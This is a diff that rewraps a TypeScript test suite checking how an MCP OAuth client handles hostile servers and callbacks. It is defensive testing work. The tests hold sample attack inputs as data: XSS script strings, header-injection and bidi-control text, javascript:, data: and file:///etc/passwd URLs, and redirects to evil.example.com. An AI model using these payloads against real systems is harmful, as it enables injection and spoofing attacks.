@@ -15,7 +15,12 @@ import type { AuthEnvironment, AuthorizationUserAgent } from '../../src/oauth/au
 import type { AuthServerMetadata } from '../../src/oauth/authServerMetadata';
 import { fetchAuthServerMetadata } from '../../src/oauth/authServerMetadata';
 import { redeemAuthorizationCallback, createAuthorizationRequest } from '../../src/oauth/authorizationCode';
-import { registerClient, resolveClient, type ClientRegistration, type ClientStore } from '../../src/oauth/clientRegistration';
+import {
+  registerClient,
+  resolveClient,
+  type ClientRegistration,
+  type ClientStore,
+} from '../../src/oauth/clientRegistration';
 import type { DeviceAuthorization } from '../../src/oauth/deviceCode';
 import { InvalidResponseError, McpOAuthError, OAuthResponseError, quote, type ErrorCode } from '../../src/oauth/errors';
 import { defaultHttpPolicy, policyFetch, type HttpPolicy } from '../../src/oauth/http';
@@ -30,7 +35,14 @@ import { TokenManager } from '../../src/oauth/tokenManager';
 import type { TokenSet } from '../../src/oauth/tokenSet';
 import { RecordingLogger } from './support/coreHarness';
 import { VirtualClock } from './support/headlessHarness';
-import { json, raw, rejectsWithCode, startHostileServer, type Handler, type HostileServer } from './support/hostileServer';
+import {
+  json,
+  raw,
+  rejectsWithCode,
+  startHostileServer,
+  type Handler,
+  type HostileServer,
+} from './support/hostileServer';
 
 const PLANTED = 'planted-secret-4d2a71';
 const PLANTED_AT = `${PLANTED}-access-token`;
@@ -40,13 +52,21 @@ const PLANTED_CODE = `${PLANTED}-code`;
 const MB = 1024 * 1024;
 const REDIRECT_URI = 'http://127.0.0.1:1/callback';
 /** Markup, terminal escapes, header injection, C1 controls and a right-to-left override. */
-const HOSTILE_TEXT = '<script>alert(document.cookie)</script>\u0000\u0007\u001b[31m\r\nSet-Cookie: x=1\u007f\u0085\u009b31m\u2028\u202egnp.exe';
+const HOSTILE_TEXT =
+  '<script>alert(document.cookie)</script>\u0000\u0007\u001b[31m\r\nSet-Cookie: x=1\u007f\u0085\u009b31m\u2028\u202egnp.exe';
 
 /** Whether `text` holds a C0 or C1 control, DEL, a line or paragraph separator, or a bidi control. */
 function hasControl(text: string): boolean {
   return [...text].some((ch) => {
     const c = ch.codePointAt(0) ?? 0;
-    return c < 0x20 || (c >= 0x7f && c <= 0x9f) || c === 0x2028 || c === 0x2029 || (c >= 0x202a && c <= 0x202e) || (c >= 0x2066 && c <= 0x2069);
+    return (
+      c < 0x20 ||
+      (c >= 0x7f && c <= 0x9f) ||
+      c === 0x2028 ||
+      c === 0x2029 ||
+      (c >= 0x202a && c <= 0x202e) ||
+      (c >= 0x2066 && c <= 0x2069)
+    );
   });
 }
 
@@ -108,7 +128,9 @@ const hangUp: Handler = (req) => {
 };
 
 const html = (status: number): Handler =>
-  raw(status, '<!doctype html><html><body><h1>Bad Gateway</h1><script>alert(1)</script></body></html>', { 'content-type': 'text/html' });
+  raw(status, '<!doctype html><html><body><h1>Bad Gateway</h1><script>alert(1)</script></body></html>', {
+    'content-type': 'text/html',
+  });
 
 class CountingClientStore implements ClientStore {
   readonly entries = new Map<string, ClientRegistration>();
@@ -133,7 +155,12 @@ describe('hostile input corpus (device flow, 10 MB bodies, callbacks with a log,
   let o: string;
 
   /** Slowloris is cut at `timeoutMs`; everything else answers (or is refused) well within it. */
-  const httpPolicy = (): HttpPolicy => ({ fetch: globalThis.fetch, timeoutMs: 1000, maxBodyBytes: MB, maxRedirects: 3 });
+  const httpPolicy = (): HttpPolicy => ({
+    fetch: globalThis.fetch,
+    timeoutMs: 1000,
+    maxBodyBytes: MB,
+    maxRedirects: 3,
+  });
 
   before(async () => {
     server = await startHostileServer();
@@ -155,22 +182,45 @@ describe('hostile input corpus (device flow, 10 MB bodies, callbacks with a log,
     const tokens = new MemoryTokenStore();
     const clients = new CountingClientStore();
     const logger = new RecordingLogger();
-    const env: AuthEnvironment = { http, now: () => clock.now(), random: cryptoRandom, logger, tokens, clients, refreshBeforeMs: 60_000 };
+    const env: AuthEnvironment = {
+      http,
+      now: () => clock.now(),
+      random: cryptoRandom,
+      logger,
+      tokens,
+      clients,
+      refreshBeforeMs: 60_000,
+    };
     return { env, tokens, clients, logger };
   };
 
   /** The device flow's discovery documents, served by the hostile server, and a good device authorization answer. */
   const serveDeviceDiscovery = (): void => {
-    server.route('/.well-known/oauth-protected-resource/mcp', json(200, { resource: `${o}/mcp`, authorization_servers: [o] }));
-    server.route('/.well-known/oauth-authorization-server', json(200, {
-      issuer: o, authorization_endpoint: `${o}/authorize`, token_endpoint: `${o}/token`, device_authorization_endpoint: `${o}/device`,
-      code_challenge_methods_supported: ['S256'], grant_types_supported: ['authorization_code', 'urn:ietf:params:oauth:grant-type:device_code'],
-    }));
+    server.route(
+      '/.well-known/oauth-protected-resource/mcp',
+      json(200, { resource: `${o}/mcp`, authorization_servers: [o] }),
+    );
+    server.route(
+      '/.well-known/oauth-authorization-server',
+      json(200, {
+        issuer: o,
+        authorization_endpoint: `${o}/authorize`,
+        token_endpoint: `${o}/token`,
+        device_authorization_endpoint: `${o}/device`,
+        code_challenge_methods_supported: ['S256'],
+        grant_types_supported: ['authorization_code', 'urn:ietf:params:oauth:grant-type:device_code'],
+      }),
+    );
   };
   const goodDevice = (patch: Record<string, unknown> = {}, drop: string[] = []): Record<string, unknown> => {
     const doc: Record<string, unknown> = {
-      device_code: PLANTED_DEVICE, user_code: 'WDJB-MJHT', verification_uri: `${o}/activate`, verification_uri_complete: `${o}/activate?user_code=WDJB-MJHT`,
-      expires_in: 600, interval: 5, ...patch,
+      device_code: PLANTED_DEVICE,
+      user_code: 'WDJB-MJHT',
+      verification_uri: `${o}/activate`,
+      verification_uri_complete: `${o}/activate?user_code=WDJB-MJHT`,
+      expires_in: 600,
+      interval: 5,
+      ...patch,
     };
     for (const field of drop) delete doc[field];
     return doc;
@@ -193,40 +243,146 @@ describe('hostile input corpus (device flow, 10 MB bodies, callbacks with a log,
   };
 
   describe('device authorization responses (RFC 8628 §3.2, through ServerAuth.signInWithDeviceCode)', () => {
-    const cases: { name: string; code: ErrorCode; serve: () => Handler; type?: new (...args: never[]) => McpOAuthError }[] = [
-      { name: '"device_code" missing', code: 'authorization_failed', serve: () => json(200, goodDevice({}, ['device_code'])), type: InvalidResponseError },
-      { name: '"device_code" a number', code: 'authorization_failed', serve: () => json(200, goodDevice({ device_code: 12345 })) },
-      { name: '"device_code" empty', code: 'authorization_failed', serve: () => json(200, goodDevice({ device_code: '' })) },
-      { name: '"user_code" missing', code: 'authorization_failed', serve: () => json(200, goodDevice({}, ['user_code'])), type: InvalidResponseError },
-      { name: '"user_code" an object', code: 'authorization_failed', serve: () => json(200, goodDevice({ user_code: { code: 'x' } })) },
-      { name: '"verification_uri" missing', code: 'authorization_failed', serve: () => json(200, goodDevice({}, ['verification_uri', 'verification_uri_complete'])) },
-      { name: '"verification_uri" a javascript: URL', code: 'insecure_url', serve: () => json(200, goodDevice({ verification_uri: 'javascript:alert(document.domain)' })), type: InvalidResponseError },
-      { name: '"verification_uri" http off loopback', code: 'insecure_url', serve: () => json(200, goodDevice({ verification_uri: 'http://as.example.com/activate' })) },
-      { name: '"verification_uri" a data: URL', code: 'insecure_url', serve: () => json(200, goodDevice({ verification_uri: 'data:text/html,<script>alert(1)</script>' })) },
-      { name: '"verification_uri" a file: URL', code: 'insecure_url', serve: () => json(200, goodDevice({ verification_uri: 'file:///etc/passwd' })) },
-      { name: '"verification_uri" relative', code: 'invalid_url', serve: () => json(200, goodDevice({ verification_uri: '/activate' })) },
-      { name: '"verification_uri" with credentials', code: 'invalid_url', serve: () => json(200, goodDevice({ verification_uri: 'https://admin:hunter2@as.example.com/activate' })) },
-      { name: '"verification_uri_complete" a javascript: URL', code: 'insecure_url', serve: () => json(200, goodDevice({ verification_uri_complete: 'javascript:alert(1)' })) },
-      { name: '"verification_uri_complete" http off loopback', code: 'insecure_url', serve: () => json(200, goodDevice({ verification_uri_complete: 'http://evil.example.com/?user_code=WDJB-MJHT' })) },
-      { name: '"expires_in" negative', code: 'authorization_failed', serve: () => json(200, goodDevice({ expires_in: -600 })) },
-      { name: '"expires_in" zero', code: 'invalid_metadata', serve: () => json(200, goodDevice({ expires_in: 0 })), type: InvalidResponseError },
-      { name: '"expires_in" missing', code: 'authorization_failed', serve: () => json(200, goodDevice({}, ['expires_in'])) },
-      { name: '"expires_in" not a number', code: 'authorization_failed', serve: () => json(200, goodDevice({ expires_in: 'soon' })) },
+    const cases: {
+      name: string;
+      code: ErrorCode;
+      serve: () => Handler;
+      type?: new (...args: never[]) => McpOAuthError;
+    }[] = [
+      {
+        name: '"device_code" missing',
+        code: 'authorization_failed',
+        serve: () => json(200, goodDevice({}, ['device_code'])),
+        type: InvalidResponseError,
+      },
+      {
+        name: '"device_code" a number',
+        code: 'authorization_failed',
+        serve: () => json(200, goodDevice({ device_code: 12345 })),
+      },
+      {
+        name: '"device_code" empty',
+        code: 'authorization_failed',
+        serve: () => json(200, goodDevice({ device_code: '' })),
+      },
+      {
+        name: '"user_code" missing',
+        code: 'authorization_failed',
+        serve: () => json(200, goodDevice({}, ['user_code'])),
+        type: InvalidResponseError,
+      },
+      {
+        name: '"user_code" an object',
+        code: 'authorization_failed',
+        serve: () => json(200, goodDevice({ user_code: { code: 'x' } })),
+      },
+      {
+        name: '"verification_uri" missing',
+        code: 'authorization_failed',
+        serve: () => json(200, goodDevice({}, ['verification_uri', 'verification_uri_complete'])),
+      },
+      {
+        name: '"verification_uri" a javascript: URL',
+        code: 'insecure_url',
+        serve: () => json(200, goodDevice({ verification_uri: 'javascript:alert(document.domain)' })),
+        type: InvalidResponseError,
+      },
+      {
+        name: '"verification_uri" http off loopback',
+        code: 'insecure_url',
+        serve: () => json(200, goodDevice({ verification_uri: 'http://as.example.com/activate' })),
+      },
+      {
+        name: '"verification_uri" a data: URL',
+        code: 'insecure_url',
+        serve: () => json(200, goodDevice({ verification_uri: 'data:text/html,<script>alert(1)</script>' })),
+      },
+      {
+        name: '"verification_uri" a file: URL',
+        code: 'insecure_url',
+        serve: () => json(200, goodDevice({ verification_uri: 'file:///etc/passwd' })),
+      },
+      {
+        name: '"verification_uri" relative',
+        code: 'invalid_url',
+        serve: () => json(200, goodDevice({ verification_uri: '/activate' })),
+      },
+      {
+        name: '"verification_uri" with credentials',
+        code: 'invalid_url',
+        serve: () => json(200, goodDevice({ verification_uri: 'https://admin:hunter2@as.example.com/activate' })),
+      },
+      {
+        name: '"verification_uri_complete" a javascript: URL',
+        code: 'insecure_url',
+        serve: () => json(200, goodDevice({ verification_uri_complete: 'javascript:alert(1)' })),
+      },
+      {
+        name: '"verification_uri_complete" http off loopback',
+        code: 'insecure_url',
+        serve: () =>
+          json(200, goodDevice({ verification_uri_complete: 'http://evil.example.com/?user_code=WDJB-MJHT' })),
+      },
+      {
+        name: '"expires_in" negative',
+        code: 'authorization_failed',
+        serve: () => json(200, goodDevice({ expires_in: -600 })),
+      },
+      {
+        name: '"expires_in" zero',
+        code: 'invalid_metadata',
+        serve: () => json(200, goodDevice({ expires_in: 0 })),
+        type: InvalidResponseError,
+      },
+      {
+        name: '"expires_in" missing',
+        code: 'authorization_failed',
+        serve: () => json(200, goodDevice({}, ['expires_in'])),
+      },
+      {
+        name: '"expires_in" not a number',
+        code: 'authorization_failed',
+        serve: () => json(200, goodDevice({ expires_in: 'soon' })),
+      },
       { name: '"interval" zero', code: 'authorization_failed', serve: () => json(200, goodDevice({ interval: 0 })) },
-      { name: '"interval" negative', code: 'authorization_failed', serve: () => json(200, goodDevice({ interval: -5 })) },
-      { name: '"interval" an hour (out of range)', code: 'invalid_metadata', serve: () => json(200, goodDevice({ interval: 3600 })), type: InvalidResponseError },
-      { name: '"interval" a string', code: 'authorization_failed', serve: () => json(200, goodDevice({ interval: '5' })) },
+      {
+        name: '"interval" negative',
+        code: 'authorization_failed',
+        serve: () => json(200, goodDevice({ interval: -5 })),
+      },
+      {
+        name: '"interval" an hour (out of range)',
+        code: 'invalid_metadata',
+        serve: () => json(200, goodDevice({ interval: 3600 })),
+        type: InvalidResponseError,
+      },
+      {
+        name: '"interval" a string',
+        code: 'authorization_failed',
+        serve: () => json(200, goodDevice({ interval: '5' })),
+      },
       { name: 'a non-JSON body', code: 'authorization_failed', serve: () => html(200) },
       { name: 'a JSON array body', code: 'authorization_failed', serve: () => json(200, [goodDevice()]) },
       {
-        name: 'an OAuth error with a hostile error_description', code: 'authorization_failed', type: OAuthResponseError,
+        name: 'an OAuth error with a hostile error_description',
+        code: 'authorization_failed',
+        type: OAuthResponseError,
         serve: () => json(400, { error: 'invalid_client', error_description: HOSTILE_TEXT }),
       },
-      { name: 'HTTP 500 with an HTML body', code: 'authorization_failed', serve: () => html(500), type: OAuthResponseError },
+      {
+        name: 'HTTP 500 with an HTML body',
+        code: 'authorization_failed',
+        serve: () => html(500),
+        type: OAuthResponseError,
+      },
       { name: 'a 10 MB body', code: 'response_too_large', serve: () => tenMbChunked },
       { name: 'slowloris', code: 'timeout', serve: () => dribble },
       { name: 'the socket closed', code: 'network_error', serve: () => hangUp },
-      { name: 'a redirect to another origin', code: 'cross_origin_redirect', serve: () => raw(307, '', { location: `${elsewhere.origin}/device` }) },
+      {
+        name: 'a redirect to another origin',
+        code: 'cross_origin_redirect',
+        serve: () => raw(307, '', { location: `${elsewhere.origin}/device` }),
+      },
     ];
 
     for (const c of cases) {
@@ -263,42 +419,86 @@ describe('hostile input corpus (device flow, 10 MB bodies, callbacks with a log,
 
   describe('device token polling (RFC 8628 §3.5)', () => {
     const token = (patch: Record<string, unknown>, drop: string[] = []): Handler => {
-      const doc: Record<string, unknown> = { access_token: PLANTED_AT, token_type: 'Bearer', expires_in: 3600, refresh_token: PLANTED_RT, ...patch };
+      const doc: Record<string, unknown> = {
+        access_token: PLANTED_AT,
+        token_type: 'Bearer',
+        expires_in: 3600,
+        refresh_token: PLANTED_RT,
+        ...patch,
+      };
       for (const field of drop) delete doc[field];
       return json(200, doc);
     };
-    const cases: { name: string; code: ErrorCode; serve: Handler; oauthError?: string; check?: (error: McpOAuthError) => void; polls?: number }[] = [
+    const cases: {
+      name: string;
+      code: ErrorCode;
+      serve: Handler;
+      oauthError?: string;
+      check?: (error: McpOAuthError) => void;
+      polls?: number;
+    }[] = [
       { name: '"token_type" missing', code: 'invalid_token_response', serve: token({}, ['token_type']) },
       { name: '"token_type" mac', code: 'invalid_token_response', serve: token({ token_type: 'mac' }) },
       { name: '"expires_in" negative', code: 'invalid_token_response', serve: token({ expires_in: -1 }) },
       { name: '"expires_in" zero', code: 'invalid_token_response', serve: token({ expires_in: 0 }) },
       { name: '"access_token" a number', code: 'invalid_token_response', serve: token({ access_token: 42 }) },
       { name: '"access_token" missing', code: 'invalid_token_response', serve: token({}, ['access_token']) },
-      { name: '"access_token" with CR LF (header injection)', code: 'invalid_token_response', serve: token({ access_token: `${PLANTED_AT}\r\nX-Injected: 1` }) },
-      { name: '"refresh_token" an array', code: 'invalid_token_response', serve: token({ refresh_token: [PLANTED_RT] }) },
-      { name: 'a 200 with a non-JSON body', code: 'invalid_token_response', serve: raw(200, `access_token=${PLANTED_AT}`, { 'content-type': 'text/plain' }) },
-      { name: 'a 200 with a JSON array', code: 'invalid_token_response', serve: json(200, [{ access_token: PLANTED_AT, token_type: 'Bearer' }]) },
+      {
+        name: '"access_token" with CR LF (header injection)',
+        code: 'invalid_token_response',
+        serve: token({ access_token: `${PLANTED_AT}\r\nX-Injected: 1` }),
+      },
+      {
+        name: '"refresh_token" an array',
+        code: 'invalid_token_response',
+        serve: token({ refresh_token: [PLANTED_RT] }),
+      },
+      {
+        name: 'a 200 with a non-JSON body',
+        code: 'invalid_token_response',
+        serve: raw(200, `access_token=${PLANTED_AT}`, { 'content-type': 'text/plain' }),
+      },
+      {
+        name: 'a 200 with a JSON array',
+        code: 'invalid_token_response',
+        serve: json(200, [{ access_token: PLANTED_AT, token_type: 'Bearer' }]),
+      },
       { name: 'expired_token', code: 'device_code_expired', serve: json(400, { error: 'expired_token' }) },
       {
-        name: 'access_denied with a hostile error_description', code: 'authorization_denied', oauthError: 'access_denied',
+        name: 'access_denied with a hostile error_description',
+        code: 'authorization_denied',
+        oauthError: 'access_denied',
         serve: json(400, { error: 'access_denied', error_description: HOSTILE_TEXT, error_uri: 'javascript:alert(1)' }),
         check: (error) => {
           assert.ok(!error.message.includes('alert'), error.message);
           assert.ok(!error.message.includes('Set-Cookie'), error.message);
         },
       },
-      { name: 'invalid_grant', code: 'token_error', serve: json(400, { error: 'invalid_grant' }), oauthError: 'invalid_grant' },
       {
-        name: 'an unknown error with a hostile code and description (JSON-encoded, bounded)', code: 'token_error',
+        name: 'invalid_grant',
+        code: 'token_error',
+        serve: json(400, { error: 'invalid_grant' }),
+        oauthError: 'invalid_grant',
+      },
+      {
+        name: 'an unknown error with a hostile code and description (JSON-encoded, bounded)',
+        code: 'token_error',
         serve: json(400, { error: `\u202e<b>x</b>${'y'.repeat(500)}`, error_description: HOSTILE_TEXT }),
         check: (error) => {
           assert.ok(error.message.includes(quote(HOSTILE_TEXT)), `the description is JSON-encoded: ${error.message}`);
           assert.ok(error.message.length < 700, `bounded: ${error.message.length}`);
         },
       },
-      { name: 'a 401 invalid_client with a challenge', code: 'token_error', serve: json(401, { error: 'invalid_client' }, { 'www-authenticate': 'Bearer error="invalid_client"' }), oauthError: 'invalid_client' },
       {
-        name: 'HTTP 500 (reported as the AS being unavailable)', code: 'token_error', serve: html(500),
+        name: 'a 401 invalid_client with a challenge',
+        code: 'token_error',
+        serve: json(401, { error: 'invalid_client' }, { 'www-authenticate': 'Bearer error="invalid_client"' }),
+        oauthError: 'invalid_client',
+      },
+      {
+        name: 'HTTP 500 (reported as the AS being unavailable)',
+        code: 'token_error',
+        serve: html(500),
         check: (error) => {
           assert.ok(error instanceof OAuthResponseError);
           assert.equal(error.status, 500);
@@ -307,11 +507,26 @@ describe('hostile input corpus (device flow, 10 MB bodies, callbacks with a log,
       { name: 'a 10 MB answer', code: 'response_too_large', serve: tenMbDeclared },
       { name: 'slowloris', code: 'timeout', serve: dribble },
       { name: 'the socket closed', code: 'network_error', serve: hangUp },
-      { name: 'a redirect to another origin', code: 'cross_origin_redirect', serve: raw(307, '', { location: 'https://evil.example.com/token' }) },
-      { name: 'authorization_pending until the code expires', code: 'device_code_expired', serve: json(400, { error: 'authorization_pending' }), polls: 5,
-        check: () => assert.deepEqual(clock.sleeps, [5000, 5000, 5000, 5000, 5000, 5000]) },
-      { name: 'slow_down until the code expires', code: 'device_code_expired', serve: json(400, { error: 'slow_down' }), polls: 2,
-        check: () => assert.deepEqual(clock.sleeps, [5000, 10_000, 15_000], 'the interval grows by 5 s after each slow_down') },
+      {
+        name: 'a redirect to another origin',
+        code: 'cross_origin_redirect',
+        serve: raw(307, '', { location: 'https://evil.example.com/token' }),
+      },
+      {
+        name: 'authorization_pending until the code expires',
+        code: 'device_code_expired',
+        serve: json(400, { error: 'authorization_pending' }),
+        polls: 5,
+        check: () => assert.deepEqual(clock.sleeps, [5000, 5000, 5000, 5000, 5000, 5000]),
+      },
+      {
+        name: 'slow_down until the code expires',
+        code: 'device_code_expired',
+        serve: json(400, { error: 'slow_down' }),
+        polls: 2,
+        check: () =>
+          assert.deepEqual(clock.sleeps, [5000, 10_000, 15_000], 'the interval grows by 5 s after each slow_down'),
+      },
     ];
 
     for (const c of cases) {
@@ -337,11 +552,20 @@ describe('hostile input corpus (device flow, 10 MB bodies, callbacks with a log,
 
   describe('10 MB bodies (refused at the 1 MB limit, without reading them whole)', () => {
     const as = (): AuthServerMetadata => ({
-      issuer: o, authorization_endpoint: `${o}/authorize`, token_endpoint: `${o}/token`, registration_endpoint: `${o}/register`, code_challenge_methods_supported: ['S256'],
+      issuer: o,
+      authorization_endpoint: `${o}/authorize`,
+      token_endpoint: `${o}/token`,
+      registration_endpoint: `${o}/register`,
+      code_challenge_methods_supported: ['S256'],
     });
     const client = (): ClientRegistration => ({
-      issuer: o, clientId: 'client-1', tokenEndpointAuthMethod: 'none', method: 'preregistered', redirectUris: [REDIRECT_URI],
-      grantTypes: ['authorization_code', 'refresh_token'], registeredAt: 0,
+      issuer: o,
+      clientId: 'client-1',
+      tokenEndpointAuthMethod: 'none',
+      method: 'preregistered',
+      redirectUris: [REDIRECT_URI],
+      grantTypes: ['authorization_code', 'refresh_token'],
+      registeredAt: 0,
     });
     const fetch = () => policyFetch(httpPolicy());
     const timed = async (run: () => Promise<unknown>, code: ErrorCode) => {
@@ -351,7 +575,10 @@ describe('hostile input corpus (device flow, 10 MB bodies, callbacks with a log,
       assert.ok(ms < 2000, `took ${ms.toFixed(0)} ms`);
     };
 
-    for (const [label, serve] of [['with a Content-Length', tenMbDeclared], ['chunked', tenMbChunked]] as const) {
+    for (const [label, serve] of [
+      ['with a Content-Length', tenMbDeclared],
+      ['chunked', tenMbChunked],
+    ] as const) {
       it(`resource metadata, ${label} → response_too_large`, async () => {
         server.route('/prm', serve);
         await timed(() => fetchResourceMetadata(fetch(), `${o}/mcp`, [`${o}/prm`]), 'response_too_large');
@@ -363,25 +590,62 @@ describe('hostile input corpus (device flow, 10 MB bodies, callbacks with a log,
       it(`a DCR answer, ${label} → response_too_large, and no client stored`, async () => {
         server.route('/register', serve);
         const store = new CountingClientStore();
-        await timed(() => resolveClient(fetch(), as(), {}, { redirectUri: REDIRECT_URI, grantTypes: ['authorization_code'] }, store, 0, false), 'response_too_large');
-        await timed(() => registerClient(fetch(), as(), { redirectUri: REDIRECT_URI, grantTypes: ['authorization_code'] }, 0), 'response_too_large');
+        await timed(
+          () =>
+            resolveClient(
+              fetch(),
+              as(),
+              {},
+              { redirectUri: REDIRECT_URI, grantTypes: ['authorization_code'] },
+              store,
+              0,
+              false,
+            ),
+          'response_too_large',
+        );
+        await timed(
+          () => registerClient(fetch(), as(), { redirectUri: REDIRECT_URI, grantTypes: ['authorization_code'] }, 0),
+          'response_too_large',
+        );
         assert.equal(store.sets, 0);
       });
       it(`a token answer to the code exchange, ${label} → response_too_large`, async () => {
         server.route('/token', serve);
-        const pending = await createAuthorizationRequest({ as: as(), client: client(), redirectUri: REDIRECT_URI, scopes: Scopes.of(['mcp']), random: cryptoRandom });
+        const pending = await createAuthorizationRequest({
+          as: as(),
+          client: client(),
+          redirectUri: REDIRECT_URI,
+          scopes: Scopes.of(['mcp']),
+          random: cryptoRandom,
+        });
         const callback = new URL(`${REDIRECT_URI}?code=${PLANTED_CODE}&state=${pending.state}`);
-        await timed(() => redeemAuthorizationCallback(fetch(), as(), client(), {}, pending, callback, Date.now), 'response_too_large');
+        await timed(
+          () => redeemAuthorizationCallback(fetch(), as(), client(), {}, pending, callback, Date.now),
+          'response_too_large',
+        );
       });
       it(`a token answer to a refresh, ${label} → response_too_large, the stored set untouched`, async () => {
         server.route('/token', serve);
         const store = new MemoryTokenStore();
         const before: TokenSet = {
-          accessToken: 'old', tokenType: 'Bearer', expiresAt: Date.now() - 1000, refreshToken: PLANTED_RT, scopes: ['mcp'],
-          issuer: o, clientId: 'client-1', tokenEndpoint: `${o}/token`, obtainedAt: 0,
+          accessToken: 'old',
+          tokenType: 'Bearer',
+          expiresAt: Date.now() - 1000,
+          refreshToken: PLANTED_RT,
+          scopes: ['mcp'],
+          issuer: o,
+          clientId: 'client-1',
+          tokenEndpoint: `${o}/token`,
+          obtainedAt: 0,
         };
         await store.set('k', before);
-        const manager = new TokenManager({ key: 'k', store, now: Date.now, refreshBeforeMs: 0, refresh: (t) => refreshTokens(fetch(), t, client(), {}, Date.now) });
+        const manager = new TokenManager({
+          key: 'k',
+          store,
+          now: Date.now,
+          refreshBeforeMs: 0,
+          refresh: (t) => refreshTokens(fetch(), t, client(), {}, Date.now),
+        });
         await timed(() => manager.getAccessToken(), 'response_too_large');
         assert.deepEqual(await store.get('k'), before);
       });
@@ -389,17 +653,29 @@ describe('hostile input corpus (device flow, 10 MB bodies, callbacks with a log,
 
     it('the production policy (defaultHttpPolicy) refuses a 10 MB metadata document too', async () => {
       server.route('/prm', tenMbChunked);
-      await rejectsWithCode(fetchResourceMetadata(policyFetch({ ...defaultHttpPolicy(), timeoutMs: 2000 }), `${o}/mcp`, [`${o}/prm`]), 'response_too_large');
+      await rejectsWithCode(
+        fetchResourceMetadata(policyFetch({ ...defaultHttpPolicy(), timeoutMs: 2000 }), `${o}/mcp`, [`${o}/prm`]),
+        'response_too_large',
+      );
     });
 
     it('a 10 MB callback error_description → authorization_failed, with a bounded message and no token request', async () => {
       server.route('/token', json(200, { access_token: PLANTED_AT, token_type: 'Bearer' }));
-      const pending = await createAuthorizationRequest({ as: as(), client: client(), redirectUri: REDIRECT_URI, scopes: Scopes.of(['mcp']), random: cryptoRandom });
+      const pending = await createAuthorizationRequest({
+        as: as(),
+        client: client(),
+        redirectUri: REDIRECT_URI,
+        scopes: Scopes.of(['mcp']),
+        random: cryptoRandom,
+      });
       const callback = new URL(REDIRECT_URI);
       callback.searchParams.set('state', pending.state);
       callback.searchParams.set('error', `${HOSTILE_TEXT}${'e'.repeat(10 * MB)}`);
       callback.searchParams.set('error_description', 'd'.repeat(10 * MB));
-      const error = await rejectsWithCode(redeemAuthorizationCallback(fetch(), as(), client(), {}, pending, callback, Date.now), 'authorization_failed');
+      const error = await rejectsWithCode(
+        redeemAuthorizationCallback(fetch(), as(), client(), {}, pending, callback, Date.now),
+        'authorization_failed',
+      );
       assert.ok(error.message.length < 300, `message of ${error.message.length} characters`);
       assertPresentable(error.message);
       assert.equal(server.count('/token'), 0);
@@ -408,10 +684,20 @@ describe('hostile input corpus (device flow, 10 MB bodies, callbacks with a log,
 
   describe('authorization callbacks end to end (ServerAuth.signIn): never shown verbatim, JSON-encoded in the log', () => {
     const serveDiscovery = (patch: Record<string, unknown> = {}): void => {
-      server.route('/.well-known/oauth-protected-resource/mcp', json(200, { resource: `${o}/mcp`, authorization_servers: [o] }));
-      server.route('/.well-known/oauth-authorization-server', json(200, {
-        issuer: o, authorization_endpoint: `${o}/authorize`, token_endpoint: `${o}/token`, code_challenge_methods_supported: ['S256'], ...patch,
-      }));
+      server.route(
+        '/.well-known/oauth-protected-resource/mcp',
+        json(200, { resource: `${o}/mcp`, authorization_servers: [o] }),
+      );
+      server.route(
+        '/.well-known/oauth-authorization-server',
+        json(200, {
+          issuer: o,
+          authorization_endpoint: `${o}/authorize`,
+          token_endpoint: `${o}/token`,
+          code_challenge_methods_supported: ['S256'],
+          ...patch,
+        }),
+      );
       server.route('/token', json(200, { access_token: PLANTED_AT, token_type: 'Bearer', expires_in: 3600 }));
     };
     const agent = (query: (state: string) => [string, string][]): AuthorizationUserAgent => ({
@@ -422,32 +708,77 @@ describe('hostile input corpus (device flow, 10 MB bodies, callbacks with a log,
         return url;
       },
     });
-    const cases: { name: string; code: ErrorCode; as?: Record<string, unknown>; query: (state: string) => [string, string][]; check?: (error: McpOAuthError) => void }[] = [
+    const cases: {
+      name: string;
+      code: ErrorCode;
+      as?: Record<string, unknown>;
+      query: (state: string) => [string, string][];
+      check?: (error: McpOAuthError) => void;
+    }[] = [
       {
-        name: 'error=access_denied with markup and controls in error_description', code: 'authorization_denied',
-        query: (s) => [['error', 'access_denied'], ['error_description', HOSTILE_TEXT], ['state', s]],
-        check: (error) => assert.ok(!error.message.includes('Set-Cookie') && !error.message.includes('gnp.exe'), error.message),
+        name: 'error=access_denied with markup and controls in error_description',
+        code: 'authorization_denied',
+        query: (s) => [
+          ['error', 'access_denied'],
+          ['error_description', HOSTILE_TEXT],
+          ['state', s],
+        ],
+        check: (error) =>
+          assert.ok(!error.message.includes('Set-Cookie') && !error.message.includes('gnp.exe'), error.message),
       },
       {
-        name: 'error=temporarily_unavailable with markup and controls in error_description', code: 'authorization_failed',
-        query: (s) => [['error', 'temporarily_unavailable'], ['error_description', HOSTILE_TEXT], ['state', s]],
+        name: 'error=temporarily_unavailable with markup and controls in error_description',
+        code: 'authorization_failed',
+        query: (s) => [
+          ['error', 'temporarily_unavailable'],
+          ['error_description', HOSTILE_TEXT],
+          ['state', s],
+        ],
       },
       {
-        name: 'a hostile error code', code: 'authorization_failed',
-        query: (s) => [['error', HOSTILE_TEXT], ['state', s]],
+        name: 'a hostile error code',
+        code: 'authorization_failed',
+        query: (s) => [
+          ['error', HOSTILE_TEXT],
+          ['state', s],
+        ],
         check: (error) => assert.ok(error.message.includes(quote(HOSTILE_TEXT, 64)), `JSON-encoded: ${error.message}`),
       },
       {
-        name: 'a hostile iss', code: 'iss_mismatch',
-        query: (s) => [['code', PLANTED_CODE], ['state', s], ['iss', HOSTILE_TEXT]],
+        name: 'a hostile iss',
+        code: 'iss_mismatch',
+        query: (s) => [
+          ['code', PLANTED_CODE],
+          ['state', s],
+          ['iss', HOSTILE_TEXT],
+        ],
         check: (error) => assert.ok(error.message.includes(quote(HOSTILE_TEXT)), `JSON-encoded: ${error.message}`),
       },
       {
-        name: 'no iss from an AS that promises one', code: 'iss_mismatch', as: { authorization_response_iss_parameter_supported: true },
-        query: (s) => [['code', PLANTED_CODE], ['state', s]],
+        name: 'no iss from an AS that promises one',
+        code: 'iss_mismatch',
+        as: { authorization_response_iss_parameter_supported: true },
+        query: (s) => [
+          ['code', PLANTED_CODE],
+          ['state', s],
+        ],
       },
-      { name: 'a hostile state', code: 'state_mismatch', query: () => [['code', PLANTED_CODE], ['state', HOSTILE_TEXT]] },
-      { name: 'an empty code', code: 'authorization_failed', query: (s) => [['code', ''], ['state', s]] },
+      {
+        name: 'a hostile state',
+        code: 'state_mismatch',
+        query: () => [
+          ['code', PLANTED_CODE],
+          ['state', HOSTILE_TEXT],
+        ],
+      },
+      {
+        name: 'an empty code',
+        code: 'authorization_failed',
+        query: (s) => [
+          ['code', ''],
+          ['state', s],
+        ],
+      },
     ];
 
